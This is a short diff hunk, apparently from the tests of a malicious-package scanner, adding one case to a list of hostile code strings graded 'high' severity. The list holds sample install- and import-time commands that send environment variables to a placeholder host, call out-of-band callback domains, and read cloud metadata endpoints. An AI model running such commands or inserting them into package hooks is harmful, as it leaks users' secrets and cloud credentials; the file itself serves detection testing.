@@ -49,6 +49,7 @@ def severity(trigger: str, source: str) -> str:
         ("import", "os.system('env | curl -d @- http://h.example.invalid/')", "high"),
         ("install", "os.system('curl https://webhook.site/0-0')", "high"),
         ("install", "os.system('nslookup a.oast.pro')", "high"),
+        ("install", "subprocess.call(['sh', '-c', 'nslookup a.oast.pro >/dev/null'])", "high"),
         ("import", "subprocess.run(['wget', '-q', 'http://203.0.113.9/'])", "high"),
         ("install", "os.system(\"t=$(curl -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/a')\")", "high"),
         ("import", "requests.get('http://169.254.169.254/latest/meta-data/')", "high"),
